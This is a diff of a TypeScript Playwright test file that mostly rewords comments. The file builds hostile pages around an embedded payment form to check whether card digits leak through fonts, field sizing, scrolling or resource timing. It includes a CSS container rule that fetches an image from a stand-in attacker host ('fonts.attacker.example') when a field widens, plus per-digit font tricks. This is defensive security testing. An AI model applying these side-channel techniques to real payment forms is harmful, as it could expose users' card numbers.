@@ -2,10 +2,10 @@ import { readFileSync } from 'node:fs';
 import type { BrowserContext } from 'playwright-core';
 import { elementsPage } from './elements-page.ts';
 
-/** Where the attacker's fonts are: a host that the browser believes in. */
+/** The host of the attacker's fonts, which the browser believes to exist. */
 const attackersHost = 'https://fonts.attacker.example';
 
-/** Answers for that host any sheet and any face, and keeps what was asked for. */
+/** Serves any style sheet and any font for that host, and records what was requested. */
 export async function attackersServer(context: BrowserContext): Promise<readonly string[]> {
   const asked: string[] = [];
   await context.route(`${attackersHost}/**`, async (route) => {
@@ -21,11 +21,11 @@ export async function attackersServer(context: BrowserContext): Promise<readonly
   return asked;
 }
 
-/** Its digits are as wide as one another; `size-adjust` by digit is what would tell them apart. */
+/** Its digits are equally wide; `size-adjust` per digit is what would tell them apart. */
 const face = readFileSync('/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf');
 const digits = [...'0123456789'];
 
-/** A face for each digit, each of another size, and rules that ask for an image where a field has grown. */
+/** A face per digit, each of a different size, and rules that request an image when a field has grown. */
 const digitsSheet = `${digits
   .map(
     (digit) =>
@@ -36,7 +36,7 @@ const digitsSheet = `${digits
 .p-Input { container-type: inline-size }
 @container (min-width: 100px) { .p-Input-input { background: url(${attackersHost}/wide.png) } }`;
 
-/** The same by faces of the machine, for a page without a server. */
+/** The same with typefaces of the machine, for a page without a server. */
 export const localDigits = digits.map((digit) => ({
   family: 'Digits',
   src: 'local("DejaVu Sans"), local("Arial"), local("Liberation Sans")',
@@ -45,8 +45,8 @@ export const localDigits = digits.map((digit) => ({
 }));
 
 /**
- * What a page can see of an element without breaking into its frame, in the order in which it comes: messages, events,
- * sizes, scrolling, focus, classes, frames, and how often the browser tells of resources.
+ * What a page can see of an element without breaking into its frame, in order of arrival: messages, events, sizes,
+ * scrolling, focus, classes, frames, and how often the browser reports resources.
  */
 const watching = `
 const trace = [];
@@ -86,7 +86,7 @@ function look() {
   });
 }`;
 
-/** Two whole cards of one brand, with other digits at almost every place. */
+/** Two complete cards of one brand, with different digits in almost every place. */
 export const numbers = ['4929127837409151', '4716508266513042'] as const;
 const growing = {
   fieldSizing: 'content',
@@ -97,7 +97,7 @@ const growing = {
   display: 'inline',
   lineHeight: 'normal',
 };
-/** Every state and every property that the frame takes, at its most. */
+/** Every state and every property that the frame accepts, at its extreme. */
 const taken = {
   '.Input': {
     fontFamily: 'Digits, serif',
@@ -111,14 +111,18 @@ const taken = {
   '.Input:focus': { padding: '40px', border: '8px solid red', fontStyle: 'italic' },
   '.Input::placeholder': { fontSize: '48px', lineHeight: '3' },
 };
-/** Pages around the Payment Element, each with what it tries. */
+/** Pages around the Payment Element, each named after what it tries. */
 export const hostilePages = [
   {
     name: 'a sheet of faces by digit',
     fonts: '[{ cssSrc: FONTS + "/digits.css" }]',
     rules: { '.Input': growing },
   },
-  { name: 'faces of the machine by digit', fonts: JSON.stringify(localDigits), rules: { '.Input': growing } },
+  {
+    name: 'faces of the machine by digit',
+    fonts: JSON.stringify(localDigits),
+    rules: { '.Input': growing },
+  },
   {
     name: 'what an appearance may say',
     fonts: '[{ family: "Digits", src: "url(" + FONTS + "/one.ttf)" }]',
@@ -140,7 +144,7 @@ export const hostilePages = [
     name: 'a caret that the browser scrolls the page after',
     fonts: '[]',
     rules: { '.Input': { fontFamily: 'C059, Gelasio, Z003', fontSize: '48px', letterSpacing: '2px' } },
-    // Wider than what the page shows of it: the browser scrolls the page after the caret.
+    // Wider than the part that the page shows, so the browser scrolls the page to follow the caret.
     width: '1600px',
   },
 ] as const;
@@ -152,7 +156,7 @@ export function paymentElementOn(page: (typeof hostilePages)[number]): string {
 const element = elements.create('payment'); watchElement(element); element.mount('#element');`;
 }
 
-/** A page that watches what it embeds; `setUp` makes the element in `#element`. */
+/** A page that observes what it embeds; `setUp` creates the element in `#element`. */
 export function hostilePage(setUp: string, width = '400px'): string {
   return elementsPage({
     setUp: `const FONTS = '${attackersHost}';\n${watching}\n${setUp}`,
@@ -164,8 +168,8 @@ export function hostilePage(setUp: string, width = '400px'): string {
 }
 
 /**
- * The page's trace since the last time, once what a key leads to has come to rest: two frames are drawn, and messages have
- * been answered. Which of two tasks of one key comes first is the browser's.
+ * The page's trace since the last time, once the effects of a keystroke have settled: two frames are drawn, and messages
+ * have been answered. The browser decides which of two tasks of one keystroke comes first.
  */
 export const takenTrace = `new Promise((resolve) =>
   requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 25))),
